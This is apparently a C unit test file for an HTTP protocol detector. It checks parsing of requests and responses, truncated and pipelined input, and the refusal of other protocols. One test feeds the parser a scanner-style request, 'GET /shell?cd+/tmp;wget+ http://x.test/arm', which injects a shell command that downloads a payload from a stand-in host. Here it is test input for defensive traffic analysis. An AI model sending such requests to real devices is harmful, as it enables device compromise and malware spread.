/* test_http.c - what is HTTP and what is not, and what request and response say */
#include <stdio.h>

#include "probe/probes.h"
#include "talk.h"

static struct talk *talk;

static void set_up(void)
{
    talk = talk_new(&ls_probe_http);
}

static void tear_down(void)
{
    talk_free(talk);
}

static const char request[] = "GET /abs/handler/x?user=secret#y HTTP/1.1\r\n"
                              "Host: pool01.contoso.test\r\nuser-agent:  OCPhone/4.0 \r\n"
                              "Server: not mine\r\n\r\n";
static const char response[] = "HTTP/1.1 401 Unauthorized\r\nServer: Microsoft-IIS/8.0\r\n"
                               "User-Agent: not mine\r\n\r\n<html>";

START_TEST(request_and_response_are_read_and_then_it_is_done)
{
    ck_assert_int_eq(talk_text(talk, 0, request), LS_YES);
    ck_assert_uint_eq(talk->held[0], 0);
    ck_assert_int_eq(talk_text(talk, 1, response), LS_DONE);
    ck_assert_uint_eq(ls_draft_evidence(talk->draft, talk->arena)->stack[0], LS_PROTO_HTTP);
    ck_assert_uint_eq(talk_client(talk), 0);
    ck_assert(talk_has(talk, LS_FACT_HTTP_METHOD, "GET"));
    ck_assert(talk_has(talk, LS_FACT_HTTP_PATH, "/abs/handler/x"));
    ck_assert(talk_has(talk, LS_FACT_HTTP_HOST, "pool01.contoso.test"));
    ck_assert(talk_has(talk, LS_FACT_HTTP_AGENT, "OCPhone/4.0"));
    ck_assert(talk_has(talk, LS_FACT_HTTP_STATUS, "401"));
    ck_assert(talk_has(talk, LS_FACT_HTTP_SERVER, "Microsoft-IIS/8.0"));
    ck_assert_uint_eq(talk_facts(talk, LS_FACT_HTTP_SERVER), 1);
    ck_assert_uint_eq(talk_facts(talk, LS_FACT_HTTP_AGENT), 1);
}
END_TEST

START_TEST(every_truncation_asks_for_more_until_the_start_line_is_whole)
{
    const char *text = _i ? request : response;
    size_t line = strlen(_i ? "GET /abs/handler/x?user=secret#y HTTP/1.1\r\n"
                            : "HTTP/1.1 401 Unauthorized\r\n");
    for (size_t n = 0; n <= strlen(text); n++) {
        struct talk *one = talk_new(&ls_probe_http);
        ck_assert_int_eq(talk_say(one, 1, text, n), n < line ? LS_MAYBE : LS_YES);
        ck_assert(n >= line || talk_blank(one));
        ck_assert(n < line || talk_client(one) == (_i ? 1 : 0));
        talk_free(one);
    }
}
END_TEST

START_TEST(byte_by_byte_gives_what_the_whole_gives)
{
    for (size_t i = 0; i < strlen(request); i++)
        talk_say(talk, 0, request + i, 1);
    ck_assert_int_eq(talk->answer, LS_YES);
    for (size_t i = 0; talk->answer == LS_YES && i < strlen(response); i++)
        talk_say(talk, 1, response + i, 1);
    ck_assert_int_eq(talk->answer, LS_DONE);
    ck_assert(talk_has(talk, LS_FACT_HTTP_PATH, "/abs/handler/x"));
    ck_assert(talk_has(talk, LS_FACT_HTTP_STATUS, "401"));
}
END_TEST

static const char *const others[] = {
    "OPTIONS sip:a@b SIP/2.0\r\n",
    "SIP/2.0 200 OK\r\n",
    "DESCRIBE rtsp://a/b RTSP/1.0\r\n",
    "RTSP/1.0 200 OK\r\n",
    "GET / HTTP/1.2\r\n",
    "GET / HTTP/2.0\r\n",
    "GET / HTTP/1.1x\r\n",
    "GET /\r\n",
    "GET  HTTP/1.1\r\n",
    "FETCH /a b HTTP/1.1\r\n",
    "GET  /a HTTP/1.1\r\n",
    "GET /a\001b c HTTP/1.1\r\n",
    "GET / HTTP/1.1\n\n",
    "get / HTTP/1.1\r\n",
    "G\001T /",
    "GET /\001",
    "HTTP/1.1 99 x\r\n",
    "HTTP/1.1 600 x\r\n",
    "HTTP/1.1 20 OK\r\n",
    "HTTP/1.1 2000\r\n",
    "HTTP/1.1\r\n",
    "ICY 200 OK\r\n",
    "SSH-2.0-x\r\n",
    "220 x\r\n",
    "PRI * HTTP/2.0\r\n\r\nXX",
    "\r\n",
    "\026\003\001",
    "\001",
    "VER MSN_SECURE_FTP\r\n",
    "USER a b c\r\n",
};

START_TEST(neighbours_are_refused)
{
    ck_assert_int_eq(talk_text(talk, 0, others[_i]), LS_NO);
    ck_assert(talk_blank(talk));
}
END_TEST

/* As sent by careless clients, and by scanners for holes. */
START_TEST(blanks_in_a_target_of_a_known_method_are_part_of_it)
{
    const char *text =
        "GET /shell?cd+/tmp;wget+ http://x.test/arm HTTP/1.1\r\nHost: a.test\r\n\r\n";
    for (size_t n = 0; n <= strlen(text); n++) {
        struct talk *one = talk_new(&ls_probe_http);
        ck_assert_int_eq(talk_say(one, 0, text, n), n < 53 ? LS_MAYBE : LS_YES);
        talk_free(one);
    }
    talk_text(talk, 0, text);
    ck_assert(talk_has(talk, LS_FACT_HTTP_PATH, "/shell"));
    ck_assert(talk_has(talk, LS_FACT_HTTP_HOST, "a.test"));
}
END_TEST

START_TEST(a_start_line_without_end_is_not_waited_for)
{
    static char line[9000] = "GET /";
    memset(line + 5, 'a', sizeof line - 5);
    ck_assert_int_eq(talk_say(talk, 0, line, 8191), LS_MAYBE);
    ck_assert_int_eq(talk_say(talk, 0, line, 1), LS_NO);
}
END_TEST

START_TEST(a_response_alone_names_the_other_side_client)
{
    talk->midway[0] = talk->midway[1] = true;
    ck_assert_int_eq(talk_text(talk, 0, response), LS_YES);
    ck_assert_uint_eq(talk_client(talk), 1);
    ck_assert(talk_has(talk, LS_FACT_HTTP_STATUS, "401"));
    ck_assert_uint_eq(talk->held[0], 0);
}
END_TEST

START_TEST(an_upload_caught_midway_does_not_hide_its_response)
{
    talk->midway[0] = talk->midway[1] = true;
    ck_assert_int_eq(talk_text(talk, 0, "\001\002\003"), LS_MAYBE);
    ck_assert_int_eq(talk_text(talk, 1, response), LS_DONE);
    ck_assert_uint_eq(talk_client(talk), 0);
}
END_TEST

START_TEST(a_side_that_speaks_something_else_from_its_start_is_a_no)
{
    ck_assert_int_eq(talk_text(talk, 0, "GET /"), LS_MAYBE);
    ck_assert_int_eq(talk_text(talk, 1, "220 smtp\r\n"), LS_NO);
}
END_TEST

START_TEST(interim_responses_are_passed_over_and_101_is_final)
{
    talk_text(talk, 0, request);
    ck_assert_int_eq(talk_text(talk, 1, "HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 103 x\r\n\r\n"),
                     LS_YES);
    ck_assert_uint_eq(talk_facts(talk, LS_FACT_HTTP_STATUS), 0);
    ck_assert_int_eq(talk_text(talk, 1, "HTTP/1.1 101 Switching Protocols\r\n\r\n"), LS_DONE);
    ck_assert(talk_has(talk, LS_FACT_HTTP_STATUS, "101"));
}
END_TEST

static const struct {
    const char *line, *host, *path;
} targets[] = {
    {"GET http://proxy.test:8080/a/b?c=d HTTP/1.0\r\n\r\n", "proxy.test:8080", "/a/b"},
    {"GET http://proxy.test HTTP/1.0\r\n\r\n", "proxy.test", NULL},
    {"GET http://proxy.test?q HTTP/1.0\r\n\r\n", "proxy.test", NULL},
    {"CONNECT a.test:443 HTTP/1.1\r\n\r\n", "a.test:443", NULL},
    {"OPTIONS * HTTP/1.1\r\nHost: a\r\n\r\n", "a", "*"},
    {"GET /http://x HTTP/1.1\r\n\r\n", NULL, "/http://x"},
    {"RPC_IN_DATA /rpc/rpcproxy.dll?a:6001 HTTP/1.1\r\n\r\n", NULL, "/rpc/rpcproxy.dll"},
    {"GET ?x HTTP/1.1\r\n\r\n", NULL, NULL},
};

START_TEST(every_form_of_target_is_taken_apart)
{
    ck_assert_int_eq(talk_text(talk, 0, targets[_i].line), LS_YES);
    ck_assert_uint_eq(talk_facts(talk, LS_FACT_HTTP_HOST), targets[_i].host != NULL);
    ck_assert_uint_eq(talk_facts(talk, LS_FACT_HTTP_PATH), targets[_i].path != NULL);
    ck_assert(!targets[_i].host || talk_has(talk, LS_FACT_HTTP_HOST, targets[_i].host));
    ck_assert(!targets[_i].path || talk_has(talk, LS_FACT_HTTP_PATH, targets[_i].path));
}
END_TEST

START_TEST(a_cut_head_is_read_as_far_as_it_goes)
{
    talk_text(talk, 0, "GET /a HTTP/1.1\r\nHost: a\r\nUser-Ag");
    ck_assert_uint_eq(talk_facts(talk, LS_FACT_HTTP_PATH), 0);
    talk_close(talk);
    ck_assert(talk_has(talk, LS_FACT_HTTP_PATH, "/a"));
    ck_assert(talk_has(talk, LS_FACT_HTTP_HOST, "a"));
}
END_TEST

START_TEST(requests_in_a_pipeline_are_all_read)
{
    static const char three[] = "GET /a HTTP/1.1\r\nHost: x\r\n\r\n"
                                "GET /b HTTP/1.1\r\nContent-Length: 0\r\n\r\n"
                                "POST /c HTTP/1.1\r\nContent-Length: 26\r\n\r\n"
                                "GET /d HTTP/1.1\r\n\r\n12345";
    size_t n = sizeof three - 1;
    for (size_t i = 0; i < n; i += (size_t)_i)
        talk_say(talk, 0, three + i, n - i < (size_t)_i ? n - i : (size_t)_i);
    ck_assert_int_eq(talk->answer, LS_YES);
    ck_assert(talk_has(talk, LS_FACT_HTTP_PATH, "/a"));
    ck_assert(talk_has(talk, LS_FACT_HTTP_PATH, "/b"));
    ck_assert(talk_has(talk, LS_FACT_HTTP_PATH, "/c"));
    ck_assert(!talk_has(talk, LS_FACT_HTTP_PATH, "/d")); /* that is the body of /c */
    ck_assert_uint_eq(talk->held[0], 0);
    ck_assert_int_eq(talk_text(talk, 1, response), LS_DONE);
}
END_TEST

START_TEST(a_pipeline_has_an_end)
{
    char line[64];
    for (int i = 0; i < 40; i++) {
        snprintf(line, sizeof line, "GET /%d HTTP/1.1\r\n\r\n", i);
        talk_text(talk, 0, line);
    }
    ck_assert_uint_eq(talk_facts(talk, LS_FACT_HTTP_PATH), 16);
    ck_assert_uint_eq(talk->held[0], 0);
}
END_TEST

/* A start line whose end the snapshot length cut off, and what is proved by how much of it. */
START_TEST(a_cut_start_line_proves_by_its_form)
{
    static const struct {
        const char *text;
        enum ls_answer cut;
    } lines[] = {
        {"GET /a H", LS_YES},       {"GET /a HTTP/1.1", LS_YES},  {"HTTP/1.1 200 O", LS_YES},
        {"GET /a ", LS_MAYBE},      {"GET /a", LS_MAYBE},         {"MIX /a HTTP/1", LS_MAYBE},
        {"HTTP/1.1 200", LS_MAYBE}, {"HTTP/1.1 999 O", LS_MAYBE}, {"OPTIONS sip:a@b S", LS_MAYBE},
    };
    for (size_t i = 0; i < sizeof lines / sizeof lines[0]; i++) {
        for (int how = 0; how < 3; how++) { /* whole so far, cut, closed */
            struct talk *one = talk_new(&ls_probe_http);
            one->cut = how == 1;
            one->closed = how == 2;
            enum ls_answer answer = talk_text(one, 0, lines[i].text);
            enum ls_answer right = how == 0 ? LS_MAYBE : lines[i].cut;
            ck_assert_msg(answer == right, "%s: %d", lines[i].text, (int)answer);
            ck_assert(answer == LS_YES || talk_blank(one));
            talk_free(one);
        }
    }
}
END_TEST

START_TEST(a_cut_of_the_other_side_cuts_nothing_here)
{
    ck_assert_int_eq(talk_text(talk, 0, "GET /a H"), LS_MAYBE);
    talk->cut = true;
    ck_assert_int_eq(talk_text(talk, 1, ""), LS_MAYBE);
}
END_TEST

START_TEST(the_preface_of_http_2_is_http)
{
    static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    for (size_t i = 0; i < strlen(preface) - 1; i++)
        ck_assert_int_eq(talk_say(talk, 1, preface + i, 1), LS_MAYBE);
    ck_assert(talk_blank(talk));
    ck_assert_int_eq(talk_text(talk, 1, "\n"), LS_DONE);
    ck_assert_uint_eq(ls_draft_evidence(talk->draft, talk->arena)->stack[0], LS_PROTO_HTTP);
    ck_assert_uint_eq(talk_client(talk), 1);
}
END_TEST

static Suite *suite(void)
{
    Suite *all = suite_create("probe/http");
    TCase *wire = tcase_create("wire");
    tcase_add_checked_fixture(wire, set_up, tear_down);
    tcase_add_test(wire, request_and_response_are_read_and_then_it_is_done);
    tcase_add_loop_test(wire, every_truncation_asks_for_more_until_the_start_line_is_whole, 0, 2);
    tcase_add_test(wire, byte_by_byte_gives_what_the_whole_gives);
    tcase_add_loop_test(wire, neighbours_are_refused, 0, (int)(sizeof others / sizeof *others));
    tcase_add_test(wire, blanks_in_a_target_of_a_known_method_are_part_of_it);
    tcase_add_test(wire, a_start_line_without_end_is_not_waited_for);
    tcase_add_test(wire, a_response_alone_names_the_other_side_client);
    tcase_add_test(wire, an_upload_caught_midway_does_not_hide_its_response);
    tcase_add_test(wire, a_side_that_speaks_something_else_from_its_start_is_a_no);
    tcase_add_test(wire, interim_responses_are_passed_over_and_101_is_final);
    tcase_add_loop_test(wire, every_form_of_target_is_taken_apart, 0,
                        (int)(sizeof targets / sizeof *targets));
    tcase_add_test(wire, a_cut_head_is_read_as_far_as_it_goes);
    tcase_add_loop_test(wire, requests_in_a_pipeline_are_all_read, 1, 9);
    tcase_add_test(wire, a_pipeline_has_an_end);
    tcase_add_test(wire, a_cut_start_line_proves_by_its_form);
    tcase_add_test(wire, a_cut_of_the_other_side_cuts_nothing_here);
    tcase_add_test(wire, the_preface_of_http_2_is_http);
    suite_add_tcase(all, wire);
    return all;
}

int main(void)
{
    return talk_run(suite());
}
